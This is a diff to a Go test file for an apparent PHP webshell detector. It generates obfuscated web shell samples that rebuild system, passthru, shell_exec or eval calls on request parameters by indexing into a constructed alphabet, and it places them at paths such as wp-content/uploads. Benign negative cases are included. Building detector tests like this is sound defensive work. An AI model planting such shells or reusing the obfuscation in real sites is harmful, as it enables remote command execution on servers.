@@ -83,10 +83,164 @@ func pageDownloaderPages(r *rand.Rand) []techVariant {
 	return out
 }
 
+// alphabetBuild returns PHP statements that build an alphabet in the variable v, and the
+// alphabet they build: range() of letters and digits, str_split of a literal, array_merge
+// of those, a foreach over a range appending each element, $v[] = 'x' and array_push.
+func alphabetBuild(r *rand.Rand, v string) (string, []string) {
+	var code strings.Builder
+	var alpha []string
+	rng := func(lo, hi byte) []string {
+		var out []string
+		for c := lo; c <= hi; c++ {
+			out = append(out, string(c))
+		}
+		return out
+	}
+	punct := []string{"(", ")", "$", "_", "[", "]", "'", "\"", ";", " ", ".", "@", "=", "/", "-", ">", ","}
+	r.Shuffle(len(punct), func(i, j int) { punct[i], punct[j] = punct[j], punct[i] })
+	q := func(s string) string {
+		if s == "'" || s == "\\" {
+			return "'\\" + s + "'"
+		}
+		return "'" + s + "'"
+	}
+	switch r.Intn(4) {
+	case 0:
+		code.WriteString(v + " = range('a', 'z');\n")
+		alpha = rng('a', 'z')
+		k := "$" + word(r)
+		code.WriteString("foreach (range('A', 'Z') as " + k + ") {\n  " + v + "[] = " + k + ";\n}\n")
+		alpha = append(alpha, rng('A', 'Z')...)
+	case 1:
+		code.WriteString(v + " = array_merge(range('a', 'z'), range('A', 'Z'), range(0, 9));\n")
+		alpha = append(append(rng('a', 'z'), rng('A', 'Z')...), rng('0', '9')...)
+	case 2:
+		letters := rng('a', 'z')
+		r.Shuffle(len(letters), func(i, j int) { letters[i], letters[j] = letters[j], letters[i] })
+		code.WriteString(v + " = str_split('" + strings.Join(letters, "") + "');\n")
+		alpha = letters
+		code.WriteString(v + " = array_merge(" + v + ", range('A', 'Z'));\n")
+		alpha = append(alpha, rng('A', 'Z')...)
+	case 3:
+		code.WriteString(v + " = array_merge(str_split('0123456789'), range('z', 'a'), range('A', 'Z'));\n")
+		rev := rng('a', 'z')
+		for i, j := 0, len(rev)-1; i < j; i, j = i+1, j-1 {
+			rev[i], rev[j] = rev[j], rev[i]
+		}
+		alpha = append(append(rng('0', '9'), rev...), rng('A', 'Z')...)
+	}
+	// the punctuation: one per statement, several to a line, or array_push
+	if r.Intn(3) == 0 {
+		var qs []string
+		for _, p := range punct {
+			qs = append(qs, q(p))
+		}
+		code.WriteString("array_push(" + v + ", " + strings.Join(qs, ", ") + ");\n")
+	} else {
+		for n, p := range punct {
+			code.WriteString(v + "[] = " + q(p) + ";")
+			if n%4 == 3 || r.Intn(2) == 0 {
+				code.WriteString("\n")
+			} else {
+				code.WriteString(" ")
+			}
+		}
+		code.WriteString("\n")
+	}
+	alpha = append(alpha, punct...)
+	return code.String(), alpha
+}
+
+// alphabetIndexes returns the indexes of the characters of s in alpha.
+func alphabetIndexes(alpha []string, s string) []string {
+	var out []string
+	for i := 0; i < len(s); i++ {
+		for k, a := range alpha {
+			if a == s[i:i+1] {
+				out = append(out, fmt.Sprint(k))
+				break
+			}
+		}
+	}
+	return out
+}
+
+// generatedAlphabetPages: the page generates an alphabet and rebuilds the name it calls, or the code
+// it evaluates, by indexing into it: directly ($r[18] . $r[24] ...), or by joining the
+// elements a list of indexes names (explode of a dotted key, an array of numbers) in a
+// foreach, or through implode(array_map(...)); the code may go through a base64 round trip.
+func generatedAlphabetPages(r *rand.Rand) []techVariant {
+	payloads := []string{"system($_GET['%s']);", "@eval($_POST['%s']);", "passthru($_REQUEST['%s']);", "echo shell_exec($_COOKIE['%s']);",
+		"echo 'ok';", "phpinfo();"}
+	runs := []string{"eval(%s);", "@eval(%s);", "eval(base64_decode(base64_encode(%s)));", "assert(%s);", "eval(\"?>\" . '<?php ' . %s);"}
+	seps := []string{".", ",", "-", "|", ":"}
+	var out []techVariant
+	for n := 0; n < 40; n++ {
+		v := "$" + word(r)
+		build, alpha := alphabetBuild(r, v)
+		var page string
+		switch n % 4 {
+		case 0:
+			// a runner's name spelled by indexes, called with the request's value
+			fn := []string{"system", "passthru", "shell_exec", "assert"}[r.Intn(4)]
+			var parts []string
+			for _, k := range alphabetIndexes(alpha, fn) {
+				parts = append(parts, v+"["+k+"]")
+			}
+			f := "$" + word(r)
+			sep := " . "
+			if r.Intn(2) == 0 {
+				sep = ".\n  "
+			}
+			page = build + f + " = " + strings.Join(parts, sep) + ";\n" + f + "($_REQUEST['" + word(r) + "']);\n"
+		case 1, 2:
+			// code from a key of indexes, joined in a loop
+			code := fmt.Sprintf(payloads[r.Intn(len(payloads))], word(r))
+			idx := alphabetIndexes(alpha, code)
+			sep := seps[r.Intn(len(seps))]
+			key, acc, item := "$"+word(r), "$"+word(r), "$"+word(r)
+			var keys string
+			switch r.Intn(3) {
+			case 0:
+				keys = key + " = '" + strings.Join(idx, sep) + "';\n" + key + "s = explode('" + sep + "', " + key + ");\n"
+				key += "s"
+			case 1:
+				keys = key + " = explode('" + sep + "', '" + strings.Join(idx, sep) + "');\n"
+			case 2:
+				keys = key + " = array(" + strings.Join(idx, ", ") + ");\n"
+			}
+			read := []string{v + "[" + item + "]", "\"" + v + "[" + item + "]\"", "\"{" + v + "[" + item + "]}\"", v + "[(int)" + item + "]", v + "[intval(" + item + ")]"}[r.Intn(5)]
+			loop := "foreach (" + key + " as " + item + ") {\n  " + acc + " .= " + read + ";\n}\n"
+			if r.Intn(2) == 0 {
+				loop = "foreach (" + key + " as $i => " + item + ")\n  " + acc + " .= " + read + ";\n"
+			}
+			if r.Intn(2) == 0 {
+				loop = acc + " = '';\n" + loop
+			}
+			page = build + keys + loop + fmt.Sprintf(runs[r.Intn(len(runs))], acc) + "\n"
+		case 3:
+			// implode(array_map(...)) over the indexes
+			code := fmt.Sprintf(payloads[r.Intn(len(payloads))], word(r))
+			idx := alphabetIndexes(alpha, code)
+			sep := seps[r.Intn(len(seps))]
+			item, c := "$"+word(r), "$"+word(r)
+			fn := "function (" + item + ") use (" + v + ") { return " + v + "[" + item + "]; }"
+			if r.Intn(2) == 0 {
+				fn = "fn(" + item + ") => " + v + "[" + item + "]"
+			}
+			page = build + c + " = implode('', array_map(" + fn + ", explode('" + sep + "', '" + strings.Join(idx, sep) + "')));\n" + fmt.Sprintf(runs[r.Intn(len(runs))], c) + "\n"
+		}
+		p := []string{"/var/www/html/wp-content/uploads/2024/05/", "/var/www/html/", "/var/www/html/images/", "/srv/app/public/"}[r.Intn(4)] + word(r) + []string{".php", ".phtml", ".php5"}[r.Intn(3)]
+		out = append(out, techVariant{"alphabet-index", p, "<?php\n/* " + word(r) + " */\n" + page})
+	}
+	return out
+}
+
 func TestHarnessTechniques3(t *testing.T) {
 	r := rand.New(rand.NewSource(12))
 	var vs []techVariant
 	vs = append(vs, pageDownloaderPages(r)...)
+	vs = append(vs, generatedAlphabetPages(r)...)
 	a := New()
 	type tally struct{ found, total int }
 	by := map[string]*tally{}
@@ -130,6 +284,37 @@ func TestTechnique3Negatives(t *testing.T) {
 	for p, page := range pages {
 		if b := best(New().Analyze(p, []byte(page))); b != nil && b.Severity >= audit.High {
 			t.Errorf("%s: %s %s %s\n%s", p, b.Severity, b.Rule, b.Title, page)
+		}
+	}
+}
+
+// Alphabets clean code generates and indexes: an A-Z index of links, a captcha's random
+// characters, a spreadsheet's column names, text picked out of an alphabet and printed.
+func TestAlphabetNegatives(t *testing.T) {
+	pages := map[string]string{
+		"/var/www/html/glossary.php": "<?php\nforeach (range('A', 'Z') as $l) {\n  echo '<a href=\"?letter=' . $l . '\">' . $l . '</a> ';\n}\n$letter = $_GET['letter'] ?? 'A';\necho htmlspecialchars($letter);\n",
+		"/var/www/html/captcha.php":  "<?php\nsession_start();\n$chars = array_merge(range('a', 'z'), range(0, 9));\n$code = '';\nfor ($i = 0; $i < 6; $i++) {\n  $code .= $chars[mt_rand(0, count($chars) - 1)];\n}\n$_SESSION['captcha'] = $code;\nimagestring($im, 5, 5, 5, $code, $fg);\n",
+		"/var/www/html/sheet.php":    "<?php\n$cols = range('A', 'Z');\n$cols[] = 'AA';\n$head = '';\nforeach (explode(',', '0,1,2,26') as $i) {\n  $head .= $cols[$i] . ';';\n}\necho $head;\n$sel = $cols[(int)$_GET['c']];\necho htmlspecialchars($sel);\n",
+		"/var/www/html/hello.php":    "<?php\n$a = str_split('abcdefghijklmnopqrstuvwxyz');\n$w = $a[7] . $a[4] . $a[11] . $a[11] . $a[14];\necho $w;\n$q = $_GET['q'] ?? '';\necho strlen($q);\n",
+		"/var/www/html/shuffle.php":  "<?php\n$a = range('a', 'z');\nshuffle($a);\n$k = '';\nforeach (explode('.', '1.2.3') as $i) $k .= $a[$i];\necho $k, $_GET['x'] ?? '';\n",
+	}
+	for p, page := range pages {
+		if fs := New().Analyze(p, []byte(page)); len(fs) > 0 {
+			t.Errorf("%s:%s\n%s", p, dump(fs), page)
+		}
+	}
+	// the generated alphabet is folded exactly: a page that spells a harmless name stays silent,
+	// one that spells a runner is found
+	for _, c := range []struct {
+		page string
+		want bool
+	}{
+		{"<?php\n$r = range('a', 'z');\n$f = $r[18] . $r[19] . $r[17] . $r[11] . $r[4] . $r[13];\necho $f($_GET['s']);\n", false}, // strlen
+		{"<?php\n$r = range('a', 'z');\n$f = $r[18] . $r[24] . $r[18] . $r[19] . $r[4] . $r[12];\n$f($_GET['s']);\n", true},       // system
+	} {
+		fs := New().Analyze("/var/www/html/x.php", []byte(c.page))
+		if got := best(fs) != nil && best(fs).Severity >= audit.High; got != c.want {
+			t.Errorf("found=%v, want %v:%s\n%s", got, c.want, dump(fs), c.page)
 		}
 	}
 }
